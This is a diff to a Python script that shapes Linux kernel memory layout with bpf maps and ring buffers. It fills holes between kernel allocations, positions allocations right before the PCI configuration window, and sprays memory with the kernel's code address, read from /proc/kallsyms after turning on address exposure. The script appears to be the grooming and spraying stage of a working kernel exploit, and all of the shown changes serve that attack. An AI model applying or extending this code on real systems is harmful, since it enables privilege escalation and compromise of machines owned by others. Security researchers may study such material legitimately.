@@ -13,6 +13,7 @@ import struct
 import sys
 import time
 from collections.abc import Iterable, Iterator, Sequence
+from errno import ENOMEM
 
 PAGE, MIB = 4096, 1 << 20
 # bpf(2): its number by the machine's name, commands and kinds of maps.
@@ -30,6 +31,8 @@ _WIDE = 4 * MIB
 # The window to the devices' configuration (ECAM) is the first area as large as this.
 _WINDOW = 128 * MIB
 _PATIENCE_SECONDS = 3.0
+# What is set in addresses that maps are filled with; one of them says SHF_EXECINSTR where a section header has flags.
+BITS = {"address": 0, "header": 4}
 
 _libc = ctypes.CDLL(None, use_errno=True)
 
@@ -92,15 +95,33 @@ def areas() -> list[tuple[int, int]]:
     return sorted(taken)
 
 
-def holes(low: int) -> Iterator[int]:
-    """Yield the sizes of the holes behind an address, up to the first wide one."""
+def holes(low: int) -> Iterator[tuple[int, int]]:
+    """Yield begin and size of the holes behind an address, up to the first wide one, which is the last."""
     end = low
     for begin, behind in areas():
+        if begin > end:
+            yield end, begin - end
         if begin - end >= _WIDE:
             return
-        if begin > end:
-            yield begin - end
         end = max(end, behind)
+
+
+def top(low: int) -> int:
+    """Return where the first wide hole behind an address begins."""
+    return max(begin for begin, _ in holes(low))
+
+
+def beginning() -> int:
+    """Return where the areas begin that files are copied to: what is taken next stands among them.
+
+    Some kernels have other areas before, for modules or compiled filters, and nothing for a long way behind them.
+    """
+    before = areas()
+    array_map(16 * PAGE)  # smaller ones have no area of their own; it stays, as it would leave a hole behind
+    low = min(begin for begin, end in areas() if (begin, end) not in before)
+    for begin, end in reversed(before):
+        low = begin if begin < low and low - end < _WIDE else low
+    return low
 
 
 def purge() -> None:
@@ -118,20 +139,24 @@ def fill(low: int, thick: int = 2) -> None:
     """
     purge()
     for _ in range(3):
-        sizes = [hole // PAGE for hole in holes(low) if hole >= 2 * PAGE]
-        if not sizes:
-            return
-        for pages in sizes:
-            for _ in range(pages // thick):
-                area_of(thick)
-            if pages % thick == 2:
-                area_of(2)
+        fill_below(low, top(low), thick)
 
 
-def kernel_text() -> bytes:
-    """Return the address at which the kernel's code begins, as it stands in memory."""
+def fill_below(low: int, high: int, thick: int = 2) -> None:
+    """Fill the holes between two addresses."""
+    sizes = [size // PAGE for begin, size in holes(low) if begin < high and size >= 2 * PAGE]
+    for pages in sizes:
+        for _ in range(pages // thick):
+            area_of(thick)
+        if pages % thick == 2:
+            area_of(2)
+
+
+def kernel_text(bits: int = 0) -> bytes:
+    """Return the address at which the kernel's code begins, as it stands in memory, with some bits set."""
     with open("/proc/kallsyms") as file:  # noqa: PTH123
-        return next(bytes.fromhex(line[:16])[::-1] for line in file if line.endswith(" _stext\n"))
+        text = next(line[:16] for line in file if line.endswith(" _stext\n"))
+    return struct.pack("=Q", int(text, 16) | bits)
 
 
 def comb(low: int, pages: int, letters: bytes, teeth: int = 16, size: int = MIB - 4 * PAGE) -> None:
@@ -140,30 +165,45 @@ def comb(low: int, pages: int, letters: bytes, teeth: int = 16, size: int = MIB 
     There are several, for the kernel takes some for its own use, such as the stacks of those who load.
     """
     fill(low)
+    begin = top(low)
     content = ctypes.create_string_buffer((letters * size)[:size], size) if letters else None
     gaps = []
     for _ in range(teeth):
-        gaps.append([area_of(2) for _ in range(pages // 2 - pages % 2)] + [area_of(3)] * (pages % 2))
+        gaps.append([area_of(3 if odd else 2) for odd in (*[False] * (pages // 2 - pages % 2), *[True] * (pages % 2))])
         array_map(size, 1, content)
     for gap in gaps:
         for each in gap:
             os.close(each)
     time.sleep(0.2)  # a filter is freed when no processor can be running it any more
     purge()
+    fill_below(low, begin)  # what else became free by then
 
 
 def push(low: int) -> None:
     """Take the room below the devices' window, so that the next area stands right before it."""
     fill(low)
-    taken = areas()
-    begin = next(begin for begin, end in taken if end - begin >= _WINDOW)
-    below = max(end for _, end in taken if end <= begin)
-    array_map(MIB, (begin - below) // MIB - 2)
+    window = next(begin for begin, end in areas() if end - begin >= _WINDOW)
+    while top(low) < window:
+        begin, size = next((begin, size) for begin, size in holes(low) if size >= _WIDE)
+        last = begin + size == window
+        array_map(MIB, size // MIB - (2 if last else 1))
+        fill_below(low, begin)
+        if last:
+            return
+        fill_below(low, begin + size)
 
 
 def behind_the_window() -> None:
     """Take room behind the devices' window, with zeros: a ring buffer is mapped twice, one behind the other."""
-    bpf(MAP_CREATE, struct.pack("=5I", RINGBUF_MAP, 0, 0, 128 * MIB, 0))
+    for size in (128 * MIB, 64 * MIB, 32 * MIB):  # as large as there is memory for
+        try:
+            bpf(MAP_CREATE, struct.pack("=5I", RINGBUF_MAP, 0, 0, size, 0))
+        except OSError as error:
+            if error.errno != ENOMEM:
+                raise
+        else:
+            return
+    raise OSError(ENOMEM, "no memory for a ring buffer")
 
 
 def run(*command: str) -> None:
@@ -205,7 +245,7 @@ def do(word: str, low: int) -> None:
         fill(low, int(value))
     elif what == "comb":
         pages, _, content = value.partition(",")
-        comb(low, int(pages), kernel_text() if content == "address" else content.encode())
+        comb(low, int(pages), kernel_text(BITS[content]) if content in BITS else content.encode())
     elif what == "pushed":
         push(low)
     elif what == "behind":
@@ -226,7 +266,7 @@ def main(words: Sequence[str]) -> None:
         resource.setrlimit(limit, (1 << 20, 1 << 20) if limit == resource.RLIMIT_NOFILE else (-1, -1))
     with open(ADDRESSES_SHOWN, "w") as file:  # noqa: PTH123
         file.write("1")
-    low = areas()[0][0]
+    low = beginning()
     for word in words:
         do(word, low)
 
